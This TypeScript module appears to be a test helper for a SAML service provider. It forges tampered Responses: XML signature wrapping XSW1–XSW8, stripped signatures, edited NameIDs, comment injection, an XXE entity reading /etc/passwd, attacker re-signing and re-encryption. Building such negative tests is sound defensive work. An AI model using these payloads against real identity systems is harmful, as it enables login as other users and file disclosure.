import { createPublicKey } from 'node:crypto';
import { DOMParser, type Document, type Element, XMLSerializer } from '@xmldom/xmldom';
import { SignedXml } from 'xml-crypto';
import xmlenc from 'xml-encryption';

/*
 * Post-signing attacks on a real IdP's Response, done the way an attacker with one valid
 * Response would: on the XML, after the signatures were made. The XML signature wrapping family
 * (XSW1–XSW8) follows Somorovsky et al., "On Breaking SAML: Be Whoever You Want to Be" (USENIX
 * Security 2012), with the names SAML Raider uses. In every XSW variant the original signed
 * element is kept (so its signature still verifies) and an evil copy with another NameID is
 * put where a careless SP would read it.
 */

const PROTOCOL = 'urn:oasis:names:tc:SAML:2.0:protocol';
const ASSERTION = 'urn:oasis:names:tc:SAML:2.0:assertion';
const DSIG = 'http://www.w3.org/2000/09/xmldsig#';

export const EVIL_NAME_ID = 'attacker-0000';

export function toBase64(xml: string): string {
  return Buffer.from(xml, 'utf8').toString('base64');
}

function parse(xml: string): Document {
  return new DOMParser().parseFromString(xml, 'text/xml');
}

function serialize(document: Document): string {
  return new XMLSerializer().serializeToString(document);
}

function first(root: Element | Document, namespace: string, name: string): Element {
  const found = root.getElementsByTagNameNS(namespace, name).item(0);
  if (!found) throw new Error(`no ${name} in the Response`);
  return found;
}

function directChild(parent: Element, namespace: string, name: string): Element | undefined {
  for (let node = parent.firstChild; node; node = node.nextSibling) {
    const element = node as Element;
    if (node.nodeType === 1 && element.namespaceURI === namespace && element.localName === name)
      return element;
  }
  return undefined;
}

function setNameId(assertion: Element, value: string): void {
  const nameId = first(assertion, ASSERTION, 'NameID');
  while (nameId.firstChild) nameId.removeChild(nameId.firstChild);
  const document = nameId.ownerDocument;
  if (!document) throw new Error('detached NameID');
  nameId.appendChild(document.createTextNode(value));
}

function removeSignature(element: Element): void {
  const signature = directChild(element, DSIG, 'Signature');
  if (signature) element.removeChild(signature);
}

/** An evil, unsigned copy of the assertion (same ID, attacker's NameID). */
function evilAssertionOf(assertion: Element): Element {
  const evil = assertion.cloneNode(true) as Element;
  removeSignature(evil);
  setNameId(evil, EVIL_NAME_ID);
  return evil;
}

function assertionOf(document: Document): Element {
  return first(document, ASSERTION, 'Assertion');
}

/** Every ds:Signature removed. */
export function stripSignatures(xml: string): string {
  const document = parse(xml);
  const signatures = document.getElementsByTagNameNS(DSIG, 'Signature');
  const all: Element[] = [];
  for (let index = 0; index < signatures.length; index++) {
    const item = signatures.item(index);
    if (item) all.push(item);
  }
  for (const signature of all) signature.parentNode?.removeChild(signature);
  return serialize(document);
}

/** The NameID changed after the IdP signed. */
export function editNameId(xml: string, value = EVIL_NAME_ID): string {
  const document = parse(xml);
  setNameId(assertionOf(document), value);
  return serialize(document);
}

/**
 * A comment inserted inside the NameID after signing: `alice@example.com<!---->.evil.test`.
 * Exclusive C14N drops comments, so the signature still verifies; an SP that reads only the first
 * text node would see `alice@example.com`.
 */
export function commentInNameId(xml: string, splitAfter: string): string {
  const document = parse(xml);
  const nameId = first(assertionOf(document), ASSERTION, 'NameID');
  const value = nameId.textContent ?? '';
  const at = value.indexOf(splitAfter);
  if (at < 0) throw new Error('split point not in NameID');
  while (nameId.firstChild) nameId.removeChild(nameId.firstChild);
  nameId.appendChild(document.createTextNode(value.slice(0, at + splitAfter.length)));
  nameId.appendChild(document.createComment(''));
  nameId.appendChild(document.createTextNode(value.slice(at + splitAfter.length)));
  return serialize(document);
}

/** A DOCTYPE with an external entity (XXE) referenced in the NameID. */
export function withDoctype(xml: string): string {
  const withoutDeclaration = xml.replace(/^<\?xml[^>]*\?>\s*/, '');
  const rootName = /^<([^\s>]+)/.exec(withoutDeclaration)?.[1] ?? 'Response';
  const doctype = `<!DOCTYPE ${rootName} [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>`;
  return `<?xml version="1.0"?>\n${doctype}\n${withoutDeclaration.replace(/(<[^>]*NameID[^>]*>)/, '$1&xxe;')}`;
}

/** A second copy of the signed assertion appended to the Response (same ID, same signature). */
export function twoAssertions(xml: string, evil = true): string {
  const document = parse(xml);
  const assertion = assertionOf(document);
  const copy = assertion.cloneNode(true) as Element;
  if (evil) setNameId(copy, EVIL_NAME_ID);
  assertion.parentNode?.appendChild(copy);
  return serialize(document);
}

/**
 * The assertion re-signed by an attacker with their own key, their certificate in KeyInfo, and
 * the NameID of their choice. Only the pinned IdP certificate may verify.
 */
export function resignWithAttackerKey(
  xml: string,
  attacker: { privateKeyPem: string; certificatePem: string },
) {
  const document = parse(xml);
  const assertion = assertionOf(document);
  removeSignature(assertion);
  setNameId(assertion, EVIL_NAME_ID);
  const id = assertion.getAttribute('ID');
  const signer = new SignedXml({
    privateKey: attacker.privateKeyPem,
    publicCert: attacker.certificatePem,
    signatureAlgorithm: 'http://www.w3.org/2001/04/xmldsig-more#rsa-sha256',
    canonicalizationAlgorithm: 'http://www.w3.org/2001/10/xml-exc-c14n#',
  });
  signer.addReference({
    xpath: `//*[@ID='${id}']`,
    transforms: [
      'http://www.w3.org/2000/09/xmldsig#enveloped-signature',
      'http://www.w3.org/2001/10/xml-exc-c14n#',
    ],
    digestAlgorithm: 'http://www.w3.org/2001/04/xmlenc#sha256',
  });
  signer.computeSignature(serialize(document), {
    prefix: 'ds',
    location: { reference: `//*[@ID='${id}']/*[local-name(.)='Issuer']`, action: 'after' },
  });
  return signer.getSignedXml();
}

export type XswVariant = 'XSW1' | 'XSW2' | 'XSW3' | 'XSW4' | 'XSW5' | 'XSW6' | 'XSW7' | 'XSW8';

/**
 * XSW1/XSW2 wrap a signed Response; XSW3–XSW8 a signed Assertion. `xml` must be signed
 * accordingly (signResponse for XSW1/2).
 */
export function wrap(xml: string, variant: XswVariant): string {
  const document = parse(xml);
  const response = document.documentElement as Element;
  switch (variant) {
    case 'XSW1':
    case 'XSW2': {
      // An evil Response becomes the root; the original signed Response goes inside the
      // signature (XSW1) or before it (XSW2), so its signature still verifies by ID.
      const evil = response.cloneNode(true) as Element;
      const signature = directChild(evil, DSIG, 'Signature');
      if (!signature) throw new Error('XSW1/2 need a signed Response');
      evil.setAttribute('ID', `${response.getAttribute('ID')}-evil`);
      const evilAssertion = directChild(evil, ASSERTION, 'Assertion');
      if (evilAssertion) {
        removeSignature(evilAssertion);
        setNameId(evilAssertion, EVIL_NAME_ID);
      }
      const original = response.cloneNode(true) as Element;
      removeSignature(original);
      if (variant === 'XSW1') signature.appendChild(original);
      else evil.insertBefore(original, signature);
      document.replaceChild(evil, response);
      break;
    }
    case 'XSW3': {
      // Evil assertion (same ID) before the signed one.
      const assertion = assertionOf(document);
      response.insertBefore(evilAssertionOf(assertion), assertion);
      break;
    }
    case 'XSW4': {
      // Evil assertion in place; the signed original inside it.
      const assertion = assertionOf(document);
      const evil = evilAssertionOf(assertion);
      response.replaceChild(evil, assertion);
      evil.appendChild(assertion);
      break;
    }
    case 'XSW5': {
      // The signature moved onto the evil copy; the original (unsigned now) appended at the end.
      const assertion = assertionOf(document);
      const evil = assertion.cloneNode(true) as Element;
      setNameId(evil, EVIL_NAME_ID);
      removeSignature(assertion);
      response.replaceChild(evil, assertion);
      response.appendChild(assertion);
      break;
    }
    case 'XSW6': {
      // Evil copy keeps the signature; the original is placed inside that signature.
      const assertion = assertionOf(document);
      const evil = assertion.cloneNode(true) as Element;
      setNameId(evil, EVIL_NAME_ID);
      const signature = directChild(evil, DSIG, 'Signature');
      if (!signature) throw new Error('XSW6 needs a signed Assertion');
      const original = assertion.cloneNode(true) as Element;
      removeSignature(original);
      response.replaceChild(evil, assertion);
      signature.appendChild(original);
      break;
    }
    case 'XSW7': {
      // An Extensions element carrying the evil assertion, the signed one left in place.
      const assertion = assertionOf(document);
      const extensions = document.createElementNS(PROTOCOL, 'samlp:Extensions');
      extensions.appendChild(evilAssertionOf(assertion));
      response.insertBefore(extensions, assertion);
      break;
    }
    case 'XSW8': {
      // Evil assertion with the signature; the original, unsigned, inside ds:Object in it.
      const assertion = assertionOf(document);
      const evil = assertion.cloneNode(true) as Element;
      setNameId(evil, EVIL_NAME_ID);
      const signature = directChild(evil, DSIG, 'Signature');
      if (!signature) throw new Error('XSW8 needs a signed Assertion');
      const object = document.createElementNS(DSIG, 'ds:Object');
      const original = assertion.cloneNode(true) as Element;
      removeSignature(original);
      object.appendChild(original);
      signature.appendChild(object);
      response.replaceChild(evil, assertion);
      break;
    }
  }
  return serialize(document);
}

/** A response padded past the size limit with a long attribute value. */
export function oversized(bytes: number): string {
  return Buffer.from(
    `<samlp:Response xmlns:samlp="${PROTOCOL}">${'A'.repeat(bytes)}</samlp:Response>`,
  ).toString('base64');
}

/**
 * Decrypt-edit-re-encrypt: the SP's encryption certificate is public (it is in the metadata), so
 * anyone holding one encrypted Response and the SP key (here: the test's own, standing in for
 * an attacker who learned it) can re-encrypt an edited assertion. Only the assertion's own
 * signature stops that.
 */
export async function reencryptWithEditedNameId(
  xml: string,
  sp: { privateKeyPem: string; certificatePem: string },
): Promise<string> {
  const document = parse(xml);
  const encryptedAssertion = first(document, ASSERTION, 'EncryptedAssertion');
  const encryptedData = first(encryptedAssertion, 'http://www.w3.org/2001/04/xmlenc#', 'EncryptedData');
  const decrypted = await new Promise<string>((resolve, fail) =>
    xmlenc.decrypt(serializeElement(encryptedData), { key: sp.privateKeyPem }, (error, result) =>
      error ? fail(error) : resolve(result),
    ),
  );
  const edited = editNameId(decrypted);
  const reencrypted = await new Promise<string>((resolve, fail) =>
    xmlenc.encrypt(
      edited.replace(/^<\?xml[^>]*\?>/, ''),
      {
        rsa_pub: createPublicKey(sp.certificatePem).export({ type: 'spki', format: 'pem' }),
        pem: sp.certificatePem,
        encryptionAlgorithm: 'http://www.w3.org/2001/04/xmlenc#aes256-cbc',
        keyEncryptionAlgorithm: 'http://www.w3.org/2001/04/xmlenc#rsa-oaep-mgf1p',
      },
      (error, result) => (error ? fail(error) : resolve(result)),
    ),
  );
  const replacement = parse(reencrypted).documentElement;
  if (!replacement) throw new Error('xml-encryption produced nothing');
  encryptedAssertion.replaceChild(document.importNode(replacement, true), encryptedData);
  return serialize(document);
}

function serializeElement(element: Element): string {
  return new XMLSerializer().serializeToString(element);
}
